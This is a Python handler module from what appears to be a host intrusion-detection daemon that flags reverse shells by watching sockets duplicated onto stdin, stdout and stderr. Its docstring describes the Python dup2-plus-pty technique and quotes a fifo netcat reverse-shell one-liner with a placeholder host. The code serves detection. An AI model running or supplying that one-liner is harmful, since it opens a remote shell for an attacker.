"""fd events: an inet socket duplicated onto stdin, stdout or stderr.

Python connects, os.dup2()s the socket onto 0, 1 and 2, then pty.spawn()s
a shell: judged at exec, Python had a terminal; the shell it spawns has a
pty. The sensor reports the dup (dup, dup2, dup3, fcntl F_DUPFD*, checked
at syscall exit; the record always wakes the daemon), and this handler
re-judges the process at that moment with its real stdio. The process
model remembers which processes have a connected socket on their stdio
(``state.processes.SocketStdio``), so a shell's lineage (the pty case) is
judged from memory, without reading /proc at every exec.

The model reads /proc only for the process an fd event names (rare: a
shell pipeline's dup2 of a pipe never reaches user space).

A shell whose stdio are pipes, a fifo or a pty and whose relay held no
connection yet when it started (``mkfifo f; sh -i <f | nc HOST PORT >f``
starts sh first) is pending in the stdio graph (state.stdio): a connect
of a process of its neighbourhood judges it again at once
(``judge_shells_near``), and the daemon's housekeeping every second
(``judge_pending_shells``) for a relay that accepted a connection, which
raises no event.
"""

from __future__ import annotations

from rome_guard.events import FdDupEvent, ProcessInfo, ProcessKey
from rome_guard.handlers.context import Context
from rome_guard.handlers.rename import judge_again


def on_fd_dup(ctx: Context, event: FdDupEvent) -> None:
    """Re-judge the process whose stdio just became a socket."""
    processes = ctx.processes
    info = processes.resolve(event.pid)
    if info is None:
        return  # gone already: its children's exec carries the socket stdio
    stdio = processes.stdio_now(info)
    if not stdio:
        return  # the fd was reused for something else since socket() (see process.c)
    subject = processes.subject(info, processes.peers(info), stdio=stdio, exe_now=True)
    ctx.alerts.raise_alerts(ctx.rules.engine.evaluate(subject))


def judge_shells_near(ctx: Context, info: ProcessInfo) -> None:
    """info connected: judge again the pending shells it may be the relay of."""
    _judge_shells(ctx, ctx.processes.stdio_graph.pending_near(info))


def judge_pending_shells(ctx: Context) -> None:
    """The pending shells due for another look (the daemon's housekeeping)."""
    _judge_shells(ctx, ctx.processes.stdio_graph.due())


def _judge_shells(ctx: Context, keys: list[ProcessKey]) -> None:
    for key in keys:
        shell = ctx.processes.get(key)
        if shell is not None:
            judge_again(ctx, shell)
